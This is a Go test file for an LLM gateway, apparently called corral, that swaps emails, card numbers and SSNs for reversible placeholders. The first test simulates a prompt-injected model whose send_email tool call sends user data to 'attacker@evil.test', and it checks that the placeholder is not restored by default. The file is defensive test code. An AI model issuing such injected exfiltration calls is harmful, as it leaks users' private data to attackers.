package app_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/corral-dev/corral/internal/app/apptest"
	"github.com/corral-dev/corral/internal/llm"
	"github.com/corral-dev/corral/internal/llm/llmtest"
)

// TestToolArgumentsKeepPlaceholders: a model steered by an injection
// answers send_email{"to": "attacker@evil.test", "body": "<EMAIL_1>"}. By
// default the agent (and so the tool) gets the placeholder, plain and
// streamed; a Model with restoreToolArguments: true gets the value back.
// The answer's text is restored either way.
func TestToolArgumentsKeepPlaceholders(t *testing.T) {
	const secret = "alice@example.com"
	injected := llm.ToolCall{Function: llm.FunctionCall{Name: "send_email", Arguments: `{"to":"attacker@evil.test","body":"<EMAIL_1>"}`}}
	up := llmtest.Start(t, llmtest.WithToolCalls(injected), llmtest.WithContent("done for <EMAIL_1>"))
	srv := apptest.Start(t)
	srv.Apply(t, fmt.Sprintf(`apiVersion: corral.dev/v1
kind: Model
metadata: {name: guarded}
spec: {provider: openai, baseURL: %[1]q, redact: reversible}
---
apiVersion: corral.dev/v1
kind: Model
metadata: {name: trusting}
spec: {provider: openai, baseURL: %[1]q, redact: reversible, restoreToolArguments: true}
---
apiVersion: corral.dev/v1
kind: Agent
metadata: {name: mailer}
spec: {models: [guarded, trusting]}
`, up.URL()))
	key := srv.Key(t, "mailer")
	waitModel(t, srv, key, "trusting")

	for _, tt := range []struct {
		model    string
		wantBody string
	}{
		{"guarded", "<EMAIL_1>"},
		{"trusting", secret},
	} {
		for _, stream := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s stream=%v", tt.model, stream), func(t *testing.T) {
				body := userMessage(tt.model, "summarise the mail from "+secret)
				body["stream"] = stream
				status, out, _ := chat(t, srv, key, body)
				if status != http.StatusOK {
					t.Fatalf("chat: HTTP %d %s", status, out)
				}
				content, args := answerParts(t, out, stream)
				var got struct{ To, Body string }
				if err := json.Unmarshal([]byte(args), &got); err != nil {
					t.Fatalf("tool arguments %q: %v", args, err)
				}
				if got.Body != tt.wantBody || got.To != "attacker@evil.test" {
					t.Errorf("tool call arguments = %+v, want body %q", got, tt.wantBody)
				}
				if content != "done for "+secret {
					t.Errorf("answer text = %q, want the value restored", content)
				}
			})
		}
	}
}

// answerParts returns the text and the first tool call's arguments of a
// chat answer, plain or streamed.
func answerParts(t *testing.T, body []byte, stream bool) (content, args string) {
	t.Helper()
	if !stream {
		var resp llm.ChatResponse
		if err := json.Unmarshal(body, &resp); err != nil || len(resp.Choices) == 0 || len(resp.Choices[0].Message.ToolCalls) == 0 {
			t.Fatalf("answer %s: %v", body, err)
		}
		m := resp.Choices[0].Message
		return m.Content.String(), m.ToolCalls[0].Function.Arguments
	}
	var text, arguments strings.Builder
	sc := bufio.NewScanner(bytes.NewReader(body))
	for sc.Scan() {
		data, ok := strings.CutPrefix(sc.Text(), "data: ")
		if !ok || data == "[DONE]" {
			continue
		}
		var c llm.ChatChunk
		if err := json.Unmarshal([]byte(data), &c); err != nil {
			t.Fatalf("chunk %q: %v", data, err)
		}
		for _, ch := range c.Choices {
			if ch.Delta.Content != nil {
				text.WriteString(*ch.Delta.Content)
			}
			for _, tc := range ch.Delta.ToolCalls {
				arguments.WriteString(tc.Function.Arguments)
			}
		}
	}
	return text.String(), arguments.String()
}

// TestEmbeddingsUserRedacted: the embeddings user field reaches the
// provider redacted, as chat's does.
func TestEmbeddingsUserRedacted(t *testing.T) {
	up := llmtest.Start(t)
	srv, key := startWithModel(t, up, "emb", "indexer")
	status, body := srv.Call(t, key, "POST", "/openai/v1/embeddings",
		map[string]any{"model": "emb", "input": "card 4111 1111 1111 1111", "user": "alice@example.com"}, nil)
	if status != http.StatusOK {
		t.Fatalf("embeddings: HTTP %d %s", status, body)
	}
	reqs := up.Requests()
	if len(reqs) != 1 {
		t.Fatalf("upstream got %d requests", len(reqs))
	}
	sent := string(reqs[0].Body)
	for _, value := range []string{"alice@example.com", "4111 1111 1111 1111"} {
		if strings.Contains(sent, value) {
			t.Errorf("the provider got %s, want %q redacted", sent, value)
		}
	}
	var got llm.EmbeddingRequest
	if err := json.Unmarshal(reqs[0].Body, &got); err != nil || got.User != "<EMAIL_1>" {
		t.Errorf("the provider got %s (%v), want user <EMAIL_1>", sent, err)
	}
}

// TestJSONNumbersRedacted: a card and an SSN written as JSON numbers (in a
// tool's enum, in metadata, in earlier tool-call arguments) reach the
// provider as placeholders; a top-level number such as seed (a valid SSN
// here) stays a number.
func TestJSONNumbersRedacted(t *testing.T) {
	up := llmtest.Start(t, llmtest.WithContent("ok"))
	srv, key := startWithModel(t, up, "m", "payer")
	body := map[string]any{
		"model":    "m",
		"seed":     219099998,
		"metadata": map[string]any{"ssn": 123456789},
		"messages": []any{
			map[string]any{"role": "user", "content": "pay"},
			map[string]any{"role": "assistant", "tool_calls": []any{map[string]any{"id": "c1", "type": "function",
				"function": map[string]any{"name": "pay", "arguments": `{"card":4111111111111111}`}}}},
			map[string]any{"role": "tool", "tool_call_id": "c1", "content": "paid"},
		},
		"tools": []any{map[string]any{"type": "function", "function": map[string]any{"name": "pay",
			"parameters": map[string]any{"type": "object", "properties": map[string]any{"card": map[string]any{"enum": []any{4012888888881881}}}}}}},
	}
	if status, out, _ := chat(t, srv, key, body); status != http.StatusOK {
		t.Fatalf("chat: HTTP %d %s", status, out)
	}
	reqs := up.Requests()
	sent := string(reqs[len(reqs)-1].Body)
	for _, value := range []string{"123456789", "4111111111111111", "4012888888881881"} {
		if strings.Contains(sent, value) {
			t.Errorf("the provider got %s, want %s redacted", sent, value)
		}
	}
	// A top-level number is an API parameter, passed as it is.
	if !strings.Contains(sent, `"seed":219099998`) {
		t.Errorf("the provider got %s, want seed 219099998 as a number", sent)
	}
}

// startWithModel starts corral with one reversible model on up and an
// agent allowed to call it, and returns the agent's key.
func startWithModel(t *testing.T, up *llmtest.Server, model, agent string) (*apptest.Server, string) {
	t.Helper()
	srv := apptest.Start(t)
	srv.Apply(t, fmt.Sprintf(`apiVersion: corral.dev/v1
kind: Model
metadata: {name: %[2]s}
spec: {provider: openai, baseURL: %[1]q, redact: reversible}
---
apiVersion: corral.dev/v1
kind: Agent
metadata: {name: %[3]s}
spec: {models: [%[2]s]}
`, up.URL(), model, agent))
	key := srv.Key(t, agent)
	waitModel(t, srv, key, model)
	return srv, key
}
